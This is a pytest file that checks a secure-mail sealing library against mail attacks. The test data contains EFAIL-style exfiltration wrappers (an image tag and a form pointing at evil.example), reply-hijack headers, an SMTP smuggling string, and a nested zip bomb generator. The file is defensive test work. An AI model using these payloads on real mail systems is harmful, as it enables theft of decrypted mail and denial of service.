"""Rows of ATTACKS that need machines of their own: transports that rewrite,
EFAIL and REPLY, bombs, smuggling through a command and through the gateway,
sizes, witnesses, two bodies under one T."""

import base64
import io
import os
import random
import zipfile

import pytest

from pysceau import envelope, kdf, mail, records
from test_large import step
from test_poll import pipe
from world.demo import YEAR, stripped

CRLF = b"\r\n"


def lines_of(env, width, end=CRLF, trailer=b""):
    b64 = base64.b64encode(env)
    return b"".join(b64[i:i + width] + trailer + end
                    for i in range(0, len(b64), width))


def shows(demo, member, data, message):
    """That mail, octet for octet, and nothing else; then nothing is left."""
    before = len(member.documents())
    demo.post(member, message)
    member.ok("poll")
    assert member.shown().count(data) == 1
    assert len(member.documents()) == before + 1
    assert member.mail() == [] and member.held() == []


# M7, P16: what transports do

HEAD = b"From: a@b.example\r\nMIME-Version: 1.0\r\n"
PART = b"Content-Type: application/vnd.sceau; name=message.sceau\r\n" \
       b"Content-Transfer-Encoding: base64\r\n\r\n"
TEXT = b"Content-Type: text/plain\r\n\r\nThis message was checked.\r\n"


def mixed(*parts, kind=b"mixed", end=CRLF):
    top = HEAD + b"Content-Type: multipart/" + kind + b"; boundary=b\r\n\r\n"
    return (top + b"".join(b"--b\r\n" + p for p in parts) +
            b"--b--\r\n").replace(CRLF, end)


TRANSPORTS = {
    **{f"{w} columns": lambda env, w=w: mixed(TEXT, PART + lines_of(env, w))
       for w in (8, 60, 64, 76, 996, 1 << 20)},
    "LF": lambda env: mixed(TEXT, PART + lines_of(env, 76), end=b"\n"),
    "trailing blanks": lambda env: mixed(
        PART + lines_of(env, 76, trailer=b" \t ")),
    "a part behind": lambda env: mixed(PART + lines_of(env, 76), TEXT),
    "empty text part before": lambda env: mixed(
        b"Content-Type: text/plain\r\n\r\n\r\n", PART + lines_of(env, 76)),
    "multipart/encrypted": lambda env: mixed(
        b"Content-Type: application/x\r\n\r\nVersion: 1\r\n",
        PART + lines_of(env, 76), kind=b"encrypted"),
    "a footer in the part": lambda env: HEAD + PART + lines_of(env, 76) +
        b"\r\n________\r\nThis list is read by nobody\r\n",
    "a signature of a list": lambda env: HEAD + PART + lines_of(env, 76) +
        b"-- \r\nfooter\r\n",
    "no padding": lambda env: HEAD + PART +
        lines_of(env, 76).replace(b"=", b""),
    "without its last line end": lambda env: HEAD + PART +
        lines_of(env, 76).rstrip(),
}


@pytest.mark.parametrize("name", TRANSPORTS)
def test_P16_M7_transports_may_rewrite(demo, forger, name):
    data = demo.mail_of(name, demo.dr)
    env = forger.seal(demo.labo, demo.dr, data)
    shows(demo, demo.dr, data, TRANSPORTS[name](env))


# M1, P13: EFAIL, REPLY

def exfiltrations(env):
    b64 = lines_of(env, 76)
    img = b'<img src="http://evil.example/?'
    html = b"Content-Type: text/html\r\n\r\n"
    return {
        "direct": mixed(html + img + CRLF, PART + b64, html + b'">\r\n'),
        "in one html part": HEAD + b"Content-Type: text/html\r\n\r\n" + img +
        CRLF + b64 + b'--">\r\n',
        "related": mixed(html + b'<img src="cid:x">\r\n',
                         b"Content-ID: <x>\r\n" + PART + b64,
                         kind=b"related"),
        "alternative": mixed(html + b"<p>pay here</p>\r\n", PART + b64,
                             kind=b"alternative"),
        "reply": HEAD + b"Reply-To: evil@evil.example\r\n"
        b"Disposition-Notification-To: evil@evil.example\r\n"
        b"Return-Receipt-To: evil@evil.example\r\n" + PART + b64,
        "nested": mixed(b"Content-Type: message/rfc822\r\n\r\n" +
                        mixed(html + img + CRLF, PART + b64).replace(
                            b"=b\r\n", b"=c\r\n").replace(b"--b", b"--c")),
        "quoted below": HEAD + CRLF + b64 + CRLF + b"> " +
        b64.replace(CRLF, b"\r\n> ") + CRLF,
        "form": HEAD + b"Content-Type: text/html\r\n\r\n<form action="
        b"http://evil.example/><textarea>\r\n" + b64 + b"\r\n</textarea>\r\n",
    }


def test_P13_M1_no_octet_of_a_wrapper_is_shown(demo, forger):
    """Delivered as from the plain mail; nobody is written to but the sender,
    at the route of the directory."""
    for name in exfiltrations(b""):
        data = demo.mail_of(f"INR 2,1 {name}", demo.dr)
        env = forger.seal(demo.labo, demo.dr, data)
        shows(demo, demo.dr, data, exfiltrations(env)[name])
    for path in demo.dr.documents():
        assert b"evil" not in path.read_bytes()
    for member in demo.members.values():
        assert member is demo.labo or member.mail() == []


def test_M1_envelopes_in_envelopes_are_never_opened(demo, forger):
    """Three deep, and as an attachment; the inner ones stay octets."""
    data = demo.mail_of("the innermost", demo.dr)
    for n in range(3):
        inside = forger.mail(demo.labo, demo.dr, data)
        data = demo.mail_of(f"depth {n}", demo.dr, fields=[
            "MIME-Version: 1.0", "Content-Type: message/rfc822"]) + inside
    shows(demo, demo.dr, data, forger.mail(demo.labo, demo.dr, data))
    assert b"the innermost" not in demo.dr.documents()[0].read_bytes()
    demo.dr.fresh()
    demo.dr.configure(kind="folder")
    demo.post(demo.dr, forger.mail(demo.labo, demo.dr, data))
    demo.dr.ok("poll")
    assert not [p for p in demo.dr.documents()
                if b"the innermost" in p.read_bytes()]


# M9: bombs outside and inside

def test_M9_a_million_fields_outside(demo, forger):
    """The outer header is not parsed: it costs no memory."""
    data = demo.mail_of("INR 2,1", demo.dr)
    sealed = forger.mail(demo.labo, demo.dr, data)
    demo.post(demo.dr, b"X: y\r\n" * 1_000_000 + sealed)
    step(demo.dr, "poll")               # under 32 MB in each process
    assert demo.dr.shown() == [data] and demo.dr.mail() == []


@pytest.mark.parametrize("size, cls", [(65_536, None), (65_537, "INNER")])
def test_M9_64_kib_of_header_inside_and_no_more(demo, forger, size, cls):
    head = b"From: labo.central@labo.example\r\n"
    left = size - len(head) - 2             # and the empty line
    while left > 0:
        n = left if left <= 900 else min(900, left - 100)
        head += b"X-F: " + b"y" * (n - 7) + CRLF
        left -= n
    data = head + CRLF + b"INR 2,1\r\n"
    assert len(head) + 2 == size
    demo.post(demo.dr, forger.mail(demo.labo, demo.dr, data))
    assert demo.dr.sceau("poll").code == (65 if cls else 0)
    assert demo.dr.shown() == ([] if cls else [data])
    assert demo.dr.classes() == ([cls] if cls else [])


def zip_bomb():
    """50 MB of zeros in a zip in a zip: some hundred octets."""
    data, name = bytes(50_000_000), "zeros"
    for n in range(2):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(name, data)
        data, name = out.getvalue(), f"{n}.zip"
    return data


def attached(demo, name, data):
    return demo.mail_of("", demo.dr, fields=[
        "MIME-Version: 1.0",
        f'Content-Type: application/zip; name="{name}"',
        f'Content-Disposition: attachment; filename="{name}"',
        "Content-Transfer-Encoding: base64"])[:-2] + lines_of(data, 76)


@pytest.mark.parametrize("kind", ["maildir", "folder"])
def test_M9_a_zip_bomb_passes_octet_for_octet(demo, kind):
    """Nothing is unpacked: what compressed files hold is the reader's."""
    bomb = zip_bomb()
    demo.dr.configure(kind=kind)
    data = attached(demo, "bomb.zip", bomb)
    demo.labo.ok("send", "-t", input=data)
    demo.labo.ok("poll")
    step(demo.dr, "poll")
    files = [p.read_bytes() for p in demo.dr.documents()]
    if kind == "maildir":
        assert [stripped(f) for f in files] == [data]
    else:
        assert files.count(bomb) == 1
    assert sum(map(len, files)) < 3 * len(data) + 4096


# M8: smuggling, where octets leave us again

SMUGGLE = b"a\r\n.\r\nMAIL FROM:<x@y.example>\r\nRCPT TO:<x@y.example>\r\n" \
    b"b\n.\nc\n.\r\nd\r.\re\r\n.\ne\n\r.\n\r\r\n.\r\r\n..\r\n"


def test_M8_a_command_gets_the_same_octets(demo, forger):
    out = demo.dr.folder / "got"
    data = demo.mail_of("", demo.dr)[:-2] + SMUGGLE
    pipe(demo.dr, f"cat > {out}")
    demo.post(demo.dr, forger.mail(demo.labo, demo.dr, data))
    demo.dr.ok("poll")
    assert stripped(out.read_bytes()) == data


def test_M8_the_gateway_relays_the_same_octets(demo, forger):
    """To petit through the gateway; nobody else gets a mail."""
    data = demo.mail_of("", demo.petit)[:-2] + SMUGGLE
    demo.labo.ok("send", demo.petit.address, input=data)
    for member in (demo.labo, demo.hub, demo.petit):
        member.ok("poll")
    assert demo.petit.shown() == [data]
    assert demo.dr.mail() == demo.durand.mail() == []


def test_M8_no_octet_of_a_mail_is_on_a_line_of_smtp(demo):
    """What the relay hears is base64 and our own words."""
    demo.labo.ok("send", demo.dr.address,
                 input=demo.mail_of("", demo.dr)[:-2] + SMUGGLE)
    demo.labo.ok("poll")
    outer, = demo.dr.mail()
    assert b"RCPT TO" not in outer and b"\n.\n" not in outer
    assert b"\n." not in outer.replace(CRLF, b"\n")


# M5: banners of others inside

def test_M5_results_of_others_inside_are_the_senders_words(demo, forger):
    """Authentication-Results is carried as he wrote it, under our field that
    stands first and says who he is."""
    data = demo.mail_of("INR", demo.dr, fields=[
        "Authentication-Results: x; sceau=pass header.from=association"])
    shows(demo, demo.dr, data, forger.mail(demo.labo, demo.dr, data))
    first = demo.dr.documents()[0].read_bytes()
    assert first.startswith(b"X-Sceau: ")
    assert first.index(demo.labo.identity.encode()) < \
        first.index(b"Authentication-Results")


# E10, E11, L

def test_E10_L_sizes_do_not_tell_what_compresses(demo, forger):
    def sealed(body):
        return len(forger.seal(demo.labo, demo.dr, body))
    noise = random.Random(1)
    for size in (600, 3000, 30_000, 200_000):
        body = bytes(noise.choices(b"0123456789", k=size))
        demo.labo.ok("send", demo.dr.address, input=demo.mail_of(
            "0" * size, demo.dr))
        demo.labo.ok("send", demo.dr.address, input=demo.mail_of(
            body.decode(), demo.dr))
        demo.labo.ok("poll")
        one, two = (len(mail.find(m)) for m in demo.dr.mail())
        assert one == two
        demo.empty(demo.dr)
    assert sealed(b"x" * 600) == sealed(b"x" * 3000) < sealed(b"x" * 30_000)


def test_E11_two_bodies_under_one_T(demo, forger):
    """Only a cheating sender can; the first is shown, and its fingerprint is
    what the acknowledgement says."""
    a, b = demo.labo.identity.encode(), demo.dr.identity.encode()
    key, salt = forger.key(demo.labo, demo.dr), os.urandom(32)
    envs, mails = [], []
    for text in ("INR 2,1", "INR 9,8"):
        data = demo.mail_of(text, demo.dr)
        recs = [records.meta(1_790_000_000, 0, YEAR, 1),
                records.grant(YEAR, forger.key(demo.dr, demo.labo), a)]
        envs.append(envelope.sealed(key, YEAR, a, b, recs, data,
                                    salt=salt)[0])
        mails.append(data)
    assert envelope.parse_header(envs[0]).T == envelope.parse_header(envs[1]).T
    for env in envs:
        demo.post(demo.dr, forger.wrap(demo.labo, demo.dr, env))
        demo.dr.ok("poll")
    assert demo.dr.shown() == [mails[0]]
    said = [forger.open(mail.find(m))[1].all(records.ACK)
            for m in demo.labo.mail()]
    assert {a["D"] for acks in said for a in acks} == {
        envelope.digest_of(mails[0])}


# A3, A4, P21: who can make a witness

def test_P21_A3_the_recipient_makes_no_witness(demo, forger):
    """The witness of labo's mail is what the association computes, and what
    no key of dr's gives; with one octet changed it is another."""
    outer = demo.sealed("INR 2,1")
    header, payload = forger.open(mail.find(outer))
    got = payload.one(records.WITNESS)["witness"]
    at = payload.one(records.META)["time"]
    data, to = payload.mail, demo.dr.identity.encode()
    own = forger.all.K(demo.labo.identity.encode(), YEAR)

    def witness(member_key, mail_):
        return kdf.witness(kdf.witness_key(member_key), at, to,
                           envelope.digest_of(mail_))
    assert witness(own, data) == got
    assert witness(own, data.replace(b"2,1", b"9,8")) != got
    of_dr = [forger.all.K(to, YEAR), forger.key(demo.labo, demo.dr),
             forger.key(demo.dr, demo.labo)]
    for key in of_dr:
        assert witness(key, data) != got
        assert kdf.witness(key, at, to, envelope.digest_of(data)) != got


def test_A4_archived_witness_keys_open_nothing(demo, forger):
    """What the association may keep after the root is destroyed."""
    env = mail.find(demo.sealed("INR 2,1"))
    for who in (demo.labo, demo.dr):
        archived = kdf.witness_key(forger.all.K(who.identity.encode(), YEAR))
        for key in (archived, kdf.channel_key(archived,
                                              demo.labo.identity.encode())):
            with pytest.raises(Exception, match="HEADER"):
                envelope.opened(env, key, records.LIMIT_DESK)


# E2: forged and damaged are told apart

def test_E2_forged_and_damaged_are_two_things(demo, forger):
    """A forgery is silent; damage of an authentic one is told its sender."""
    data = demo.mail_of("x" * 100_000, demo.dr)
    env = bytearray(forger.seal(demo.labo, demo.dr, data))
    env[-1] ^= 1
    forged = forger.seal(demo.labo, demo.dr, data, key=bytes(32))
    demo.post(demo.dr, forger.wrap(demo.labo, demo.dr, bytes(env)),
              forger.wrap(demo.labo, demo.dr, forged))
    assert demo.dr.sceau("poll").code == 65
    assert demo.dr.classes() == ["BODY", "HEADER"]
    said = [forger.open(mail.find(m))[1].one(records.ACK)["state"]
            for m in demo.labo.mail()]
    assert said == [records.DAMAGED]
